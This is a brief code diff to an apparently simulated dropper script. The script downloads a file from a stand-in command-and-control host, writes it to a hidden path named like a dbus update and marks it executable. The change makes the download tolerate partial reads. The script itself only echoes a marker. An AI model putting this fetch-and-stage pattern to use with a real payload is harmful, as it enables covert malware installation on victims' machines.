@@ -6,8 +6,13 @@
 import os, subprocess, urllib.request
 
 path = "/var/tmp/.dbus-update"
-with urllib.request.urlopen("http://dl.c2.example/payload.elf", timeout=3) as r:
-    body = r.read()
+import http.client
+
+try:
+    with urllib.request.urlopen("http://dl.c2.example/payload.elf", timeout=3) as r:
+        body = r.read()
+except http.client.IncompleteRead as short:
+    body = short.partial
 with open(path, "wb") as f:
     f.write(b"#!/bin/sh\necho payload-running\n" + b"# " + body[:64].replace(b"\n", b" ") + b"\n")
 os.chmod(path, 0o755)
